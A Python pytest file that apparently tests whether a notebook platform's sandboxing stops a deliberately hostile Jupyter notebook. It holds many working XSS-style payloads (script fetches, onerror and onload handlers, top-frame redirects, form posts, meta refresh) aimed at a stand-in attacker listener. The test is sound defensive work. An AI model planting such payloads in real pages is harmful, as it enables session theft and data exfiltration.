"""A hostile notebook, read in a browser: whatever it tries, nothing reaches its author, the platform or another notebook.

Its author listens on a port of their own. The scripts say in their frames what each try came to, so that it is known that
they ran; that the listener hears at all is tried first.
"""

import base64
import json
import threading
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from browsing import chromium, visit
from playwright.sync_api import Browser, Error, Frame, Page, expect

from running.platform import Platform, wait_for
from studium.client import Client

MARK = "stolen-by-a-notebook"


@pytest.fixture(scope="module")
def browser():  # type: ignore[no-untyped-def]
    with chromium() as opened:
        yield opened


class Listener:
    """What the author of the notebook hears."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                heard.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<p>Welcome to the other side")

            do_GET = do_POST = do_HEAD = do_OPTIONS = do_PUT = answer  # noqa: N815

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    thread = threading.Thread(target=found.server.serve_forever)
    thread.start()
    try:
        with urllib.request.urlopen(f"{found.url}/it-hears"):
            pass
        assert found.heard.pop() == "GET /it-hears"
        yield found
    finally:
        found.server.shutdown()
        found.server.server_close()
        thread.join()


TRIES = Path(__file__).with_name("hostile.js")
# What may come back as more than a failure, because what it sent went nowhere: the listener and the logs say so.
WENT_NOWHERE = {
    "top_goes", "top_replaced", "parent_goes", "opens", "alert", "beacon", "form", "form_get", "form_platform", "form_top",
    "download", "link_top", "link_blank", "messages", "element_embed", "element_object", "element_frame",
    "element_platform_frame", "element_other_frame",
}  # fmt: skip


def script(listener: Listener, platform: Platform, other: str) -> str:
    names = f"const far = {json.dumps(listener.url)}, home = {json.dumps(platform.url)}, other = {json.dumps(other)};\n"
    return names + TRIES.read_text(encoding="utf-8").replace("MARK", MARK)


def markup(listener: Listener, platform: Platform, other: str) -> str:
    """The same by markup alone, as it may stand in markdown, HTML, SVG and text."""
    far = listener.url
    return (
        f"<script>fetch('{far}/script')</script><img src='{far}/pixel.png' onerror=\"location='{far}/onerror'\">"
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{far}/svg')\"><script>top.location='{far}/svg-top'</script>"
        f"<image href='{far}/svg-image'/><foreignObject><iframe src='{far}/svg-frame'></iframe></foreignObject></svg>"
        f"<form action='{far}/form' method=post id=f><input name=a value=b><button>Go</button></form>"
        f"<iframe src='{far}/frame'></iframe><object data='{far}/object'></object><embed src='{far}/embed'>"
        f"<link rel=stylesheet href='{far}/style.css'><style>@import '{far}/import.css';body{{background:url({far}/bg)}}</style>"
        f"<base href='{far}/base/'><meta http-equiv=refresh content='0;url={far}/refresh'>"
        f"<video autoplay src='{far}/video'></video><audio src='{far}/audio' autoplay></audio>"
        f"<a href='javascript:fetch(\"{far}/link\")'>a link</a><a href='{platform.url}/{MARK}' ping='{far}/ping'>another</a>"
        f"<img src='{platform.url}/{MARK}.png'><img src='{other}/?{MARK}'>"
        f"<math><mtext><img src='{far}/math'></mtext></math><input autofocus onfocus=\"fetch('{far}/focus')\">"
    )


def code(number: int, *outputs: dict[str, Any]) -> dict[str, Any]:
    return {
        "cell_type": "code", "id": f"c{number}", "metadata": {}, "source": f"cell_{number}", "execution_count": number,
        "outputs": list(outputs),
    }  # fmt: skip


def display(**data: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": {k.replace("__", "/"): v for k, v in data.items()}}


def hostile(listener: Listener, platform: Platform, other: str) -> bytes:
    marked = markup(listener, platform, other)
    tries = script(listener, platform, other)
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='60' height='20'><script>{tries}</script>{marked}</svg>"
    svg_address = "data:image/svg+xml;base64," + base64.b64encode(svg.encode()).decode()
    spec = {
        "$schema": "https://vega.github.io/schema/vega/v5.json", "width": 50, "height": 50,
        "data": [{"name": "t", "url": f"{listener.url}/vega.json"}],
        "signals": [{"name": "s", "init": f"warn(open('{listener.url}/vega-open'))"}],
        "marks": [{"type": "image", "encode": {"enter": {"url": {"value": f"{listener.url}/vega.png"}, "width": {"value": 9}}}}],
    }  # fmt: skip
    figure = {
        "data": [{"type": "scatter", "x": [1, 2], "y": [1, 2], "text": [marked, marked], "mode": "text"}],
        "layout": {
            "title": {"text": f"<a href='javascript:alert(1)'>t</a>{marked}"},
            "images": [
                {"source": f"{listener.url}/plotly.png", "xref": "paper", "yref": "paper", "sizex": 1, "sizey": 1}
            ],
        },
        "config": {"plotlyServerURL": listener.url, "showSendToCloud": True, "topojsonURL": f"{listener.url}/topo/"},
    }
    kept = marked.replace("refresh", "x-refresh")  # sent away by itself, its frame would show an error and no widget
    widget = {
        "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
        "state": {"value": f"<p>a widget</p>{kept}", "_model_name": "HTMLModel", "_view_name": "HTMLView"},
    }  # fmt: skip
    cells = [
        {"cell_type": "markdown", "id": "m", "metadata": {}, "source": f"# Come in\n\n{marked}\n\n![x]({svg_address})"},
        code(1, display(text__html=f"<p>words</p>{marked}", text__plain="x")),
        code(2, display(**{"image/svg+xml": svg})),
        code(3, {"output_type": "error", "ename": "E", "evalue": marked, "traceback": [marked, f"\x1b[31m{marked}"]}),
        code(4, {"output_type": "stream", "name": "stdout", "text": marked}),
        code(5, display(text__html=f"<div id=a></div><script>{tries}</script>")),
        code(6, display(text__html=f"<div id=b></div>{marked}<script>document.documentElement.dataset.done='yes'</script>")),
        code(7, display(**{"application/vnd.vega.v5+json": spec})),
        code(8, display(**{"application/vnd.plotly.v1+json": figure})),
        code(9, display(**{"application/vnd.jupyter.widget-view+json": {"model_id": "w"}})),
        code(10, display(text__html=f"<div id=c></div><script>location = '{listener.url}/goes'</script>")),
        code(11, display(text__html=f"<style>@import '{listener.url}/styled.css'</style><p>styled</p>{marked}")),
    ]  # fmt: skip
    metadata = {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"w": widget}}}}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}).encode()


def rendered(platform: Platform, notebook: str) -> None:
    code = f"from studium.notebooks.models import Notebook; print(Notebook.objects.get(pk={notebook!r}).rendered)"
    wait_for(lambda: platform.manage(code), seconds=60, every=0.3)


def label_of(platform: Platform, notebook: str) -> str:
    return platform.manage(
        f"from studium.notebooks.models import Notebook; print(Notebook.objects.get(pk={notebook!r}).label)"
    )


def frames(page: Page, kind: str) -> list[Frame]:
    return [frame for frame in page.frames if frame.url.endswith(f".{kind}")]


def scrolled(page: Page) -> None:
    """Everything in the document's frame comes into view once, as for somebody who reads it all."""
    document = page.frame_locator("#document iframe")
    for section in document.locator("main > section").all():
        section.scroll_into_view_if_needed()
    for offer in document.locator("details.offer > summary").all():
        offer.click()
    for fence in document.locator(".fenced iframe").all():
        fence.scroll_into_view_if_needed()
        page.wait_for_function("1")


def ran(page: Page, kind: str, done: str) -> list[Frame]:
    """The frames of this kind once all of them say that they are through."""

    def through(frame: Frame) -> bool:
        try:
            return bool(frame.evaluate(done))
        except Error:  # it sends itself away just now, as one of them tries to; what comes of that is asked next time
            return False

    return wait_for(
        lambda: (found := frames(page, kind)) and all(through(frame) for frame in found) and found,
        seconds=60, every=0.2, says=f"{kind}: {[f.url for f in page.frames]}",
    )  # fmt: skip


@pytest.fixture
def client(platform: Platform) -> Iterator[Client]:
    with platform.client() as found:
        yield found


def test_a_hostile_notebook_reaches_nobody(
    browser: Browser, platform: Platform, client: Client, listener: Listener
) -> None:
    hush = {"cell_type": "markdown", "id": "s", "metadata": {}, "source": "hush"}
    plain = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [hush]}).encode()
    secret = client.notebooks.create("Secret", content=plain)
    rendered(platform, secret.id)
    other = f"http://doc-{label_of(platform, secret.id)}.{platform.options.content_host_suffix}"
    bad = client.notebooks.create("Bad", content=hostile(listener, platform, other))
    rendered(platform, bad.id)
    with visit(browser, platform, "admin") as seen:
        page, context = seen.page, seen.page.context
        opened: list[str] = []
        context.on("page", lambda new: opened.append(f"a window: {new.url}"))
        page.on("download", lambda found: opened.append(f"a download: {found.url}"))
        page.on("dialog", lambda found: (opened.append(f"a dialog: {found.message}"), found.dismiss()))
        # The reader has entered the other notebook's host too: its cookie is there to be used.
        seen.go(f"/notebooks/{secret.team}/{secret.slug}/")
        expect(page.frame_locator("#document iframe").locator("body")).to_contain_text("hush")
        began = len(platform.log_text())
        address = f"{platform.url}/notebooks/{bad.team}/{bad.slug}/"
        page.goto(address)
        document = page.frame_locator("#document iframe")
        expect(document.locator("body")).to_contain_text("words", timeout=20_000)
        scrolled(page)

        tried = ran(
            page, "html", "document.documentElement.dataset.done === 'yes' || !document.querySelector('#a, #b')"
        )
        told = next(text for f in tried if (text := f.evaluate("document.documentElement.dataset.results || ''")))
        results: dict[str, str] = json.loads(told)
        gained = {name: got for name, got in results.items() if got.startswith("got") and name not in WENT_NOWHERE}
        assert gained == {}, gained
        assert len(results) > 40, "the scripts did run"
        drawn = "document.documentElement.className === 'drawn' || document.querySelector('.note') !== null"
        for kind in ("vega", "plotly", "widget"):
            ran(page, kind, drawn)
        assert all(
            f.evaluate("self.origin") == "null" for f in page.frames if f.url.endswith((".html", ".plotly", ".vega"))
        )

        document.locator("text=a link").first.click()  # what a careless reader does
        assert page.url == address
        assert opened == []
        assert context.service_workers == []
        heard = [line for line in platform.log_text()[began:].splitlines() if MARK in line]
        assert heard == []
        others = [line for line in platform.log_text()[began:].splitlines() if other.removeprefix("http://") in line]
        assert others == []
        assert listener.heard == []
        assert [n.title for n in client.notebooks.all() if n.id == secret.id] == ["Secret"]

        # Opened by itself, outside the page that fences it, an output is not shown at all.
        outputs = [frames(page, "html")[0].url, frames(page, "plotly")[0].url]
        page.goto(outputs[0])  # leads in by way of the platform first
        for output in outputs:
            answer = page.goto(output)
            assert answer is not None
            assert answer.status == 404
        assert listener.heard == []
